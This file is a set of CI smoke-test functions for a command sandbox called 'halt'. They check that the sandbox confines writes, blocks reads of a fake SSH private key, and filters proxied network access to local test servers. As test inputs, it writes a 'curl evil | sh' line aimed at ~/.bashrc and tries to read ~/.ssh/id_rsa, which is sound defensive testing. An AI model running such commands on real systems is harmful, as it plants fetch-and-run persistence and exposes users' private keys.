# The checks ci/smoke-linux.sh and ci/smoke-macos.sh share (sourced; POSIX sh). Each check runs
# the real halt ($HALT, default this clone's bin/halt) on a command, from a workspace of its own,
# and prints "ok" or "FAIL" with what it proves; smoke_finish prints "N passed, N failed" and
# exits non-zero if a check failed. Traffic goes only to the servers on 127.0.0.1 that
# ci/loopback-servers.py starts; every run is killed after $HALT_SMOKE_TIMEOUT seconds (60).
#
# The scratch directory lies under $HALT_SMOKE_DIR, else $RUNNER_TEMP, else /tmp. It must be
# outside halt's default grants (not under $TMPDIR on macOS): the fake key in it must be out of
# reach because halt says so, not because of where it is.
#
# shellcheck disable=SC2016 # the commands run in the sandbox get their arguments as "$1"

# smoke_setup NAME: the scratch directory with the workspace (the working directory of every
# run), a home with a fake ~/.ssh/id_rsa, and a directory outside every grant; HOME and halt's
# own directories (config, run records) point into it.
smoke_setup() {
    smoke_name=$1
    HALT=${HALT:-$HALT_HOME/bin/halt}
    # Built (on first use) before the timed runs, with the caller's HOME (Maven's repository).
    if ! "$HALT" --version >/dev/null; then
        echo "$smoke_name: $HALT --version failed" >&2
        exit 1
    fi
    base=$(mktemp -d "${HALT_SMOKE_DIR:-${RUNNER_TEMP:-/tmp}}/halt-smoke.XXXXXX")
    server_pid=""
    trap smoke_cleanup EXIT
    trap 'exit 130' INT TERM
    ws=$base/ws
    home=$base/home
    outside=$base/outside
    mkdir -p "$ws" "$home/.ssh" "$outside"
    secret="FAKE-PRIVATE-KEY-$$"
    printf '%s\n' "$secret" >"$home/.ssh/id_rsa"
    chmod 700 "$home/.ssh"
    chmod 600 "$home/.ssh/id_rsa"
    # Under sudo halt runs the command as the user who ran sudo: the files are that user's.
    if [ "$(id -u)" = 0 ] && [ -n "${SUDO_UID:-}" ]; then
        chown -R "$SUDO_UID:${SUDO_GID:-$SUDO_UID}" "$base"
    fi
    HOME=$home
    XDG_CONFIG_HOME=$base/config
    XDG_STATE_HOME=$base/state
    export HOME XDG_CONFIG_HOME XDG_STATE_HOME
    passed=0
    failed=0
    echo "$smoke_name: halt is $HALT, as $(id -un 2>/dev/null || id -u) (uid $(id -u)), in $base"
}

smoke_cleanup() {
    if [ -n "$server_pid" ]; then kill "$server_pid" 2>/dev/null || true; fi
    rm -rf "$base"
}

smoke_ok() {
    passed=$((passed + 1))
    echo "ok    $*"
}

# smoke_fail WHAT: counts a failure and shows the last run's output.
smoke_fail() {
    failed=$((failed + 1))
    echo "FAIL  $*"
    sed -n '1,20s/^/      out: /p' "$base/out" 2>/dev/null || true
    sed -n '1,20s/^/      err: /p' "$base/err" 2>/dev/null || true
}

# smoke_run ARGS...: `halt run --no-config ARGS` (ARGS end with -- and the command) from the
# workspace, without standard input; sets $rc and leaves the output in $base/out and $base/err.
smoke_run() {
    (cd "$ws" && exec "$HALT" run --no-config "$@") </dev/null >"$base/out" 2>"$base/err" &
    run_pid=$!
    # The watchdog polls, so that what it leaves when killed is one `sleep 1`, with no stream of
    # the script's open (a reader of this script's output would wait for it).
    (
        waited=0
        while [ "$waited" -lt "${HALT_SMOKE_TIMEOUT:-60}" ] && kill -0 "$run_pid" 2>/dev/null; do
            sleep 1
            waited=$((waited + 1))
        done
        kill -TERM "$run_pid" 2>/dev/null
    ) </dev/null >/dev/null 2>&1 &
    watchdog=$!
    rc=0
    wait "$run_pid" || rc=$?
    kill "$watchdog" 2>/dev/null || true
}

# smoke_expect_status WANT WHAT: the last run ended with WANT.
smoke_expect_status() {
    want=$1
    shift
    if [ "$rc" = "$want" ]; then smoke_ok "$* (exit $rc)"; else smoke_fail "$*: exit $rc, expected $want"; fi
}

out_has() { grep -q -e "$1" "$base/out"; }

# halt's exit status: the command's own, or 125/126/127 when halt or the exec failed.
smoke_exit_codes() {
    smoke_run -- true
    smoke_expect_status 0 "exit 0: the command succeeded"
    smoke_run -- false
    smoke_expect_status 1 "exit 1: the command's own failure is passed on"
    smoke_run --no-such-flag -- touch "$ws/ran"
    if [ "$rc" = 125 ] && [ ! -e "$ws/ran" ]; then
        smoke_ok "exit 125: a bad flag stops halt, and nothing runs"
    else
        smoke_fail "a bad flag: exit $rc (expected 125), command ran: $([ -e "$ws/ran" ] && echo yes || echo no)"
    fi
    printf '#!/bin/sh\necho ran\n' >"$ws/not-executable"
    chmod 644 "$ws/not-executable"
    smoke_run -- ./not-executable
    smoke_expect_status 126 "exit 126: a file without the execute bit cannot be run"
    smoke_run -- halt-smoke-no-such-command
    smoke_expect_status 127 "exit 127: a command that does not exist"
}

# Writes: the workspace is writable, the rest is not.
smoke_writes() {
    smoke_run -- sh -c 'echo inside > granted'
    if [ "$rc" = 0 ] && [ "$(cat "$ws/granted" 2>/dev/null)" = inside ]; then
        smoke_ok "a write in the workspace (the working directory) works"
    else
        smoke_fail "a write in the workspace: exit $rc"
    fi
    smoke_run -- sh -c 'echo planted > "$1"' sh "$outside/planted"
    if [ "$rc" != 0 ] && [ ! -e "$outside/planted" ]; then
        smoke_ok "a write outside the grants is refused (exit $rc)"
    else
        smoke_fail "a write outside the grants: exit $rc, file made: $([ -e "$outside/planted" ] && echo yes || echo no)"
    fi
    smoke_run -- sh -c 'echo "curl evil | sh" >> "$1"' sh "$home/.bashrc"
    if [ "$rc" != 0 ] && [ ! -e "$home/.bashrc" ]; then
        smoke_ok "a write to ~/.bashrc is refused (exit $rc)"
    else
        smoke_fail "a write to ~/.bashrc: exit $rc"
    fi
}

# The fake key: out of reach by default, readable once granted (so the refusal is halt's).
smoke_secret() {
    smoke_run -- cat "$home/.ssh/id_rsa"
    if [ "$rc" != 0 ] && ! out_has "$secret"; then
        smoke_ok "a fake ~/.ssh/id_rsa cannot be read (exit $rc)"
    else
        smoke_fail "the fake id_rsa was read: exit $rc"
    fi
    smoke_run --read "$home/.ssh" -- cat "$home/.ssh/id_rsa"
    if [ "$rc" = 0 ] && out_has "$secret"; then
        smoke_ok "the same key is read with --read ~/.ssh: the refusal above is halt's"
    else
        smoke_fail "the key with --read ~/.ssh: exit $rc"
    fi
}

# smoke_servers: the HTTP origin and the DNS server on 127.0.0.1 ($http_port, $dns_port), which
# answers allowed.halt.test and denied.halt.test with 127.0.0.1.
smoke_servers() {
    python3 "$HALT_HOME/ci/loopback-servers.py" --seconds 600 allowed.halt.test denied.halt.test \
        >"$base/servers" 2>&1 &
    server_pid=$!
    tries=0
    while [ "$tries" -lt 100 ] && ! grep -q '^http=' "$base/servers" 2>/dev/null; do
        sleep 0.1
        tries=$((tries + 1))
    done
    http_port=$(sed -n 's/^http=\([0-9]*\) dns=.*/\1/p' "$base/servers")
    dns_port=$(sed -n 's/^http=[0-9]* dns=\([0-9]*\)$/\1/p' "$base/servers")
    if [ -z "$http_port" ] || [ -z "$dns_port" ]; then
        echo "$smoke_name: the test servers did not start:" >&2
        cat "$base/servers" >&2
        exit 1
    fi
    # halt's own means to map the names: its proxy asks this DNS server, and may connect to
    # loopback (which it refuses by default).
    printf '[proxy]\nupstream_dns = ["127.0.0.1:%s"]\nallow_local_destinations = true\n' "$dns_port" >"$base/proxy.toml"
    chmod 644 "$base/proxy.toml"
}

# The proxy: one name allowed, another refused; an IP literal and a direct connect refused. The
# literal comes first: once an allowed name resolved to an address, the proxy lets that address
# through as a literal too.
smoke_proxy() {
    smoke_servers
    smoke_run --config "$base/proxy.toml" --allow allowed.halt.test -- sh -c '
        curl -sS -m 10 -o /dev/null -w "literal=%{http_code}\n" --noproxy "" -x "$HTTP_PROXY" "http://127.0.0.1:$1/"
        curl -sS -m 10 "http://allowed.halt.test:$1/"; echo "allowed=$?"
        curl -sS -m 10 -o /dev/null -w "denied=%{http_code}\n" "http://denied.halt.test:$1/"
        curl -sS -m 10 --noproxy "*" "http://127.0.0.1:$1/"; echo "direct=$?"' sh "$http_port"
    if out_has '^allowed=0$' && out_has '^hello-smoke$'; then
        smoke_ok "the proxy lets an allowed name through to its server"
    else
        smoke_fail "the allowed name through the proxy (exit $rc)"
    fi
    if out_has '^denied=403$'; then smoke_ok "the proxy refuses a name not allowed (403)"; else smoke_fail "a name not allowed"; fi
    if out_has '^literal=403$'; then smoke_ok "the proxy refuses an IP literal no allowed name resolved to (403)"; else smoke_fail "an IP literal through the proxy"; fi
    if out_has '^direct=[1-9]' && [ "$(grep -c '^hello-smoke$' "$base/out")" = 1 ]; then
        smoke_ok "a raw-IP connect around the proxy is refused ($(sed -n 's/^direct=/curl exit /p' "$base/out"))"
    else
        smoke_fail "a raw-IP connect around the proxy got through"
    fi
}

smoke_finish() {
    echo "$smoke_name: $passed passed, $failed failed"
    if [ "$failed" -ne 0 ]; then exit 1; fi
    exit 0
}
